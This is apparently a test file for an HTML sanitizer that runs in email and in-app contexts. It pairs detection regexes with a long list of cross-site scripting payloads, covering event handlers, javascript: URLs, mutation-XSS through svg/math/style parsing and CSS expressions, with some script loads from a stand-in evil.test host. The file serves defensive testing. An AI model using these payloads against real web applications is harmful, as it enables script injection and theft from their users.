import fc from 'fast-check'
import { type DefaultTreeAdapterTypes, parse, parseFragment } from 'parse5'
import { describe, expect, test } from 'vitest'
import type { HtmlPosition } from './html-policy.ts'
import { sanitizeHtml } from './sanitize-html.ts'

type Node = DefaultTreeAdapterTypes.Node

const runs = Number(process.env['FC_RUNS'] ?? 5000)
const html = 'http://www.w3.org/1999/xhtml'
const refusedTags =
  /^(script|iframe|object|embed|applet|base|frame|frameset|template|noscript|svg|math|xmp|plaintext|portal|canvas|noembed|noframes|bgsound|isindex|layer|ilayer|keygen|slot)$/
const urlAttributes =
  /^(href|src|background|cite|action|poster|longdesc|srcset|xlink:href|data|formaction|code|codebase|dynsrc|lowsrc)$/
const schemes = /^(https?|mailto|tel|sms|cid|ftp|geo|xmpp|webcal|whatsapp|myapp):$/
const images = /^data:image\/(png|gif|jpe?g|webp|avif|bmp|x-icon)[;,]/i

/** What a browser would find in the HTML that runs something; empty when there is nothing. */
function findDangers(text: string): string[] {
  const dangers: string[] = []
  for (const scriptingEnabled of [true, false]) {
    for (const root of [parse(text, { scriptingEnabled }), parseFragment(text, { scriptingEnabled })])
      visit(root, dangers)
  }
  return dangers
}

function visit(node: Node, dangers: string[]): void {
  if ('tagName' in node) {
    if (refusedTags.test(node.tagName) || node.namespaceURI !== html) dangers.push(`<${node.tagName}>`)
    for (const { name, value } of node.attrs) judgeAttribute(node.tagName, { name, value }, dangers)
    const header = node.attrs.find(({ name }) => name === 'http-equiv')?.value.toLowerCase()
    if (header && !['content-type', 'x-ua-compatible'].includes(header)) dangers.push(`http-equiv ${header}`)
    if (
      node.tagName === 'link' &&
      !node.attrs.some(({ name, value }) => name === 'rel' && /^stylesheet$/i.test(value))
    ) {
      dangers.push('link')
    }
    if (node.tagName === 'style')
      for (const child of node.childNodes) if ('value' in child) judgeCss(child.value, dangers)
  }
  if (node.nodeName === '#comment' && 'data' in node) {
    const [, inner] = /^\[if [^\]]*\]>(.*)<!\[endif\]$/s.exec(node.data) ?? []
    if (inner !== undefined) dangers.push(...findDangers(inner).filter((danger) => danger !== '<noscript>'))
    else if (!/^(\[if [^\]]*\](><!)?|<?!?\[endif\])$/i.test(node.data)) dangers.push(`<!--${node.data}-->`)
  }
  if ('childNodes' in node) for (const child of node.childNodes) visit(child, dangers)
  if ('content' in node) visit(node.content, dangers)
}

function judgeAttribute(tag: string, { name, value }: { name: string; value: string }, dangers: string[]): void {
  if (/^on|^srcdoc$|^formaction$|^ping$|^is$|[^\w:.-]/i.test(name)) dangers.push(`${tag} ${name}`)
  if (name === 'style') judgeCss(value, dangers)
  if (!urlAttributes.test(name)) return
  for (const part of name === 'srcset' ? value.split(/,\s|\s+/) : [value]) {
    const url = URL.canParse(part, 'https://base.test/') ? new URL(part, 'https://base.test/') : undefined
    if (url && !schemes.test(url.protocol) && !images.test(part.trim())) dangers.push(`${tag} ${name}=${part}`)
  }
}

function judgeCss(css: string, dangers: string[]): void {
  const decoded = css.replace(/\\([0-9a-f]{1,6})\s?/gi, (_all, hex: string) =>
    String.fromCodePoint(Number.parseInt(hex, 16) % 0x10ffff),
  )
  const bare = decoded
    .replace(/\/\*.*?\*\//gs, '')
    .replace(/[\s\\]/g, '')
    .toLowerCase()
  if (/expression\(|javascript:|vbscript:|-moz-binding|(^|[;{])behavior:(?!url\(["']?#default#vml)/.test(bare))
    dangers.push(`css ${css}`)
}

// Ideas of the collections DOMPurify and sanitize-html are held against, restated.
const attacks: readonly string[] = [
  '<script>alert(1)</script>',
  '<SCRIPT SRC=//evil.test/x.js></SCRIPT>',
  '<scr<script>ipt>alert(1)</scr</script>ipt>',
  '<script/x>alert(1)</script >',
  '<script\u0000>alert(1)</script>',
  '<<script>alert(1);//<</script>',
  '<script>/*<p>*/alert(1)/*</p>*/',
  '<img src=x onerror=alert(1)>',
  '<img src=x onerror=alert(1)//',
  '<img/src=x/onerror=alert(1)>',
  '<img src="x" ONERROR="alert(1)">',
  '<img src=x\nonerror\n=\nalert(1)>',
  '<img """><script>alert(1)</script>">',
  '<img src=x:x onerror\u000b=alert(1)>',
  '<img src=`x` onerror=`alert(1)`>',
  '<img src="x` `<script>alert(1)</script>"` `>',
  '<img alt="`x" onerror=alert(1)//`>',
  '<img src onerror /" \'"= alt=alert(1)//">',
  '<img title="><img src=x onerror=alert(1)>">',
  "<img title='\"><img src=x onerror=alert(1)>'>",
  '<img src="javascript:alert(1)">',
  '<img srcset="javascript:alert(1) 1x, x.png 2x">',
  '<img dynsrc="javascript:alert(1)" lowsrc="javascript:alert(1)">',
  '<img src="data:image/svg+xml,<svg onload=alert(1)>">',
  '<img src="data:text/html,<script>alert(1)</script>">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java\nscript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="java&Tab;script&colon;alert(1)">x</a>',
  '<a href="&#x6A&#x61&#x76&#x61&#x73&#x63&#x72&#x69&#x70&#x74&#x3A;alert(1)">x</a>',
  '<a href="&#0000106avascript:alert(1)">x</a>',
  '<a href="\u0001javascript:alert(1)">x</a>',
  '<a href="\u00a0javascript:alert(1)">x</a>',
  '<a href="javascript&#58;alert&lpar;1&rpar;">x</a>',
  '<a href="JaVaScRiPt://x%0aalert(1)">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="data:text/html;base64,PHNjcmlwdD4=">x</a>',
  '<a href="blob:https://x/y">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<a href="intent://x#Intent;scheme=javascript;end">x</a>',
  '<a href=javascript&colon;alert(1)>x</a>',
  '<a xlink:href="javascript:alert(1)">x</a>',
  '<a href="x" ping="https://evil.test">x</a>',
  '<a href="#" href="javascript:alert(1)" onclick=alert(1)>x</a>',
  '<a style="x:expression(alert(1))">x</a>',
  '<p style="x:exp/**/ression(alert(1))">x</p>',
  '<p style="x:\\65xpression(alert(1))">x</p>',
  '<p style="x:\\000065 xpress/*\\*/ion(alert(1))">x</p>',
  '<p style="background:url(javascript:alert(1))">x</p>',
  '<p style="background:url(&#34;java\nscript:alert(1)&#34;)">x</p>',
  '<p style="background:\\75rl(javascript:alert(1))">x</p>',
  '<p style="-moz-binding:url(//evil.test/x.xml#x)">x</p>',
  '<p style="behavior:url(x.htc)">x</p>',
  '<p style="background:url(data:text/html,x)">x</p>',
  '<style>@import "javascript:alert(1)";</style>',
  '<style>@import url(//evil.test/x.css);</style>',
  '<style>body{background:url("javascript:alert(1)")}</style>',
  '<style>*{x:expression(alert(1))}</style>',
  '<style><img src="</style><img src=x onerror=alert(1)>"></style>',
  '<style><!--</style><script>alert(1)</script>--></style>',
  '<style></style\t><script>alert(1)</script>',
  '<style></styl<!---->e><img src=x onerror=alert(1)>',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<!--><script>alert(1)</script>-->',
  '<!---><img src=x onerror=alert(1)>-->',
  '<!-- --!><img src=x onerror=alert(1)> -->',
  '<!--[if IE]><script>alert(1)</script><![endif]-->',
  '<!--[if mso]><a title="--><img src=x onerror=alert(1)>">x</a><![endif]-->',
  '<!--[if mso]><style>--><img src=x onerror=alert(1)></style><![endif]-->',
  '<!--[if mso]>--<script></script>><img src=x onerror=alert(1)><![endif]-->',
  '<!--[if <img src=x onerror=alert(1)>]>x<![endif]-->',
  '<![if x]><img src=x onerror=alert(1)><![endif]>',
  '<![CDATA[<img src=x onerror=alert(1)>]]>',
  '<!DOCTYPE html [<!ENTITY x "<script>alert(1)</script>">]>',
  '<!doctype "><img src=x onerror=alert(1)>">',
  '<?xml-stylesheet href="javascript:alert(1)"?>',
  '<? foo="><script>alert(1)</script>">',
  '</ x="><img src=x onerror=alert(1)>">',
  '<svg onload=alert(1)>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><style><img src=x onerror=alert(1)></style></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<svg><animate attributeName=href values=javascript:alert(1) /></svg>',
  '<svg><use href="data:image/svg+xml,x#y"/></svg>',
  '<svg></p><style><a id="</style><img src=x onerror=alert(1)>">',
  '<svg><title><style><a title="</style><img src=x onerror=alert(1)>">',
  '<math><mi//xlink:href="data:x,<script>alert(1)</script>">',
  '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<math><annotation-xml encoding="text/html"><style><img title="</style><img src=x onerror=alert(1)>"></style></annotation-xml></math>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<noscript><style></noscript><img src=x onerror=alert(1)></style>',
  '<textarea><img title="</textarea><img src=x onerror=alert(1)>">',
  '<!--[if mso]><noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript><![endif]-->',
  '<title><img title="</title><img src=x onerror=alert(1)>">',
  '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
  '<noembed><p title="</noembed><img src=x onerror=alert(1)>">',
  '<iframe><p title="</iframe><img src=x onerror=alert(1)>"></iframe>',
  '<plaintext><img src=x onerror=alert(1)>',
  '<select><style><img src=x onerror=alert(1)></style></select>',
  '<select><template><style></select><img src=x onerror=alert(1)>',
  '<template><script>alert(1)</script></template>',
  '<table><td><svg><desc><table><td></svg><img src=x onerror=alert(1)>',
  '<p id="</p><script>alert(1)</script>">',
  '<iframe src="javascript:alert(1)"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="javascript:alert(1)"></object>',
  '<object type="text/html" data="https://evil.test"><param name=x></object>',
  '<embed src="javascript:alert(1)">',
  '<applet code=x></applet>',
  '<base href="javascript:/a/">',
  '<base href="https://evil.test/">',
  '<meta http-equiv="refresh" content="0;url=javascript:alert(1)">',
  '<meta http-equiv=Refresh content="0;url=https://evil.test">',
  '<meta http-equiv="set-cookie" content="a=b">',
  '<meta charset="utf-7">+ADw-script+AD4-alert(1)',
  '<meta http-equiv="content-type" content="text/html; charset=utf-7">',
  '<link rel=import href="https://evil.test">',
  '<link rel=stylesheet href="javascript:alert(1)">',
  '<link rel=stylesheet href="data:text/css,x">',
  '<link rel="stylesheet prefetch" href="https://evil.test">',
  '<form action="javascript:alert(1)"><input type=submit></form>',
  '<form><button formaction="javascript:alert(1)">x</button></form>',
  '<input type=image src=x onerror=alert(1) autofocus onfocus=alert(1)>',
  '<isindex type=image src=1 onerror=alert(1)>',
  '<video><source onerror=alert(1)></video>',
  '<video poster="javascript:alert(1)" src="javascript:alert(1)"></video>',
  '<audio src=x onloadstart=alert(1)>',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<body onload=alert(1) background="javascript:alert(1)">',
  '<frameset onload=alert(1)><frame src="javascript:alert(1)">',
  '<bgsound src="javascript:alert(1)">',
  '<layer src="https://evil.test"></layer>',
  '<table background="javascript:alert(1)"><td background="javascript:alert(1)">',
  '<div datasrc="#x" datafld="y" dataformatas="html">',
  '<xml src="x.xml" id=x onreadystatechange=alert(1)></xml>',
  '<xml><i><b><img src="javas<!-- -->cript:alert(1)"></b></i></xml>',
  '<v:image src="javascript:alert(1)" onerror="alert(1)"/>',
  '<v:shape o:onclick="alert(1)" style="behavior:expression(alert(1))">',
  '<o:p onmouseover=alert(1)>x</o:p>',
  '<x onclick=alert(1)>x</x>',
  '<custom-element is="x" onclick=alert(1)>x</custom-element>',
  '<a@click="alert(1)" v-on:click="alert(1)" x-on:click="alert(1)" ng-click="alert(1)">x</a>',
  '<div x-html="payload" hx-on="alert(1)" hx-get="//evil.test">x</div>',
  '<a href="https://x" target=_blank onclick=alert(1)>x</a\tonclick=alert(1)>',
  '<p title="a"onclick="alert(1)">x</p>',
  "<p title='a'/onclick='alert(1)'>x</p>",
  '<p a=">" onclick=alert(1)>x</p>',
  '<p =">" onclick=alert(1)>x</p>',
  '<p "onclick=alert(1)">x</p>',
  '<p title=">"><img src=x onerror=alert(1)>',
  '<p title="<img src=x onerror=alert(1)>',
  '<a href="x"\u000conclick=alert(1)>x</a>',
  '< script>alert(1)</script>',
  '&lt;script&gt;alert(1)&lt;/script&gt;',
  '<svg><![CDATA[</svg><img src=x onerror=alert(1)>]]></svg>',
  '<div><a id="x"><b></div><script>alert(1)</script>',
]

describe.each<HtmlPosition>(['email', 'inApp'])('%s', (position) => {
  test.each(attacks)('%s', (attack) => {
    const clean = sanitizeHtml(attack, position)
    expect(findDangers(clean)).toEqual([])
    expect(findDangers(`<p>${clean}</p><i>after</i>`)).toEqual([])
    expect(sanitizeHtml(clean, position)).toBe(clean)
  })

  test('nothing that runs comes out of any soup', () => {
    const bits = attacks.flatMap((attack) => attack.split(/(?=[<>"'`=\s/])|(?<=[<>"'`=\s/])/))
    const bit = fc.oneof(fc.constantFrom(...bits), fc.constantFrom(...attacks), fc.string({ maxLength: 3 }))
    fc.assert(
      fc.property(fc.array(bit, { maxLength: 14 }), (parts) => {
        const clean = sanitizeHtml(parts.join(''), position)
        expect(findDangers(clean)).toEqual([])
        expect(sanitizeHtml(clean, position)).toBe(clean)
      }),
      { numRuns: runs },
    )
  })
})

test('the judge sees what it must see', () => {
  const harmless = attacks.filter((attack) => findDangers(attack).length === 0)
  // A few attacks need a client of long ago, or are only text for a browser.
  expect(harmless.length).toBeLessThan(attacks.length / 6)
})

test('in an app, nothing of the page around can be touched', () => {
  const text =
    '<style>*{display:none}</style><p id="app" name="cookie">x</p><form action="https://x"><input></form><title>t</title>'
  expect(sanitizeHtml(text, 'inApp')).toBe('<p>x</p>')
})

test('what is written anew is written plainly', () => {
  expect(sanitizeHtml(`<p title='<b> "x"' title="second">`)).toBe('<p title="&lt;b&gt; &quot;x&quot;">')
  expect(sanitizeHtml('<a href=" https://x.test/ ">x</a>')).toBe('<a href=" https://x.test/ ">x</a>')
  expect(sanitizeHtml('a<!-- x --!>b<!-->c<!--->d<!-- e')).toBe('abcd')
  expect(sanitizeHtml('<p>a</p >b</ p>c</>d<p')).toBe('<p>a</p>bcd')
  expect(sanitizeHtml('<svg><svg></svg>x</svg>y<object>z</object>')).toBe('y')
})

test('text is text', () => {
  for (const text of ['', 'plain', 'a & b &amp; "c"', 'x > y']) expect(sanitizeHtml(text)).toBe(text)
  expect(sanitizeHtml('1 < 2 <3')).toBe('1 &lt; 2 &lt;3')
})

test('takes time in proportion', () => {
  const units = [
    '<a x',
    ' x',
    '<',
    '<!--',
    '</a ',
    '<style>',
    '/*',
    'url(',
    '\\',
    '<a b="',
    "<a b='",
    '<!--[if mso]>',
    '&',
    '@import ',
  ]
  const around = [
    ['', ''],
    ['<a ', '>'],
    ['<p style="', '">'],
    ['<style>', '</style>'],
    ['<img srcset="', '">'],
    ['<svg>', ''],
  ]
  for (const unit of [...units, ', ', '<a =', '/', '<svg>', ' ', '&#x', '<title>', '<![if x]>', '<p style="']) {
    for (const [before, after] of around) {
      const started = performance.now()
      sanitizeHtml(`${before}${unit.repeat(50_000)}${after}<b>`)
      expect([unit, before, performance.now() - started < 1000]).toEqual([unit, before, true])
    }
  }
})
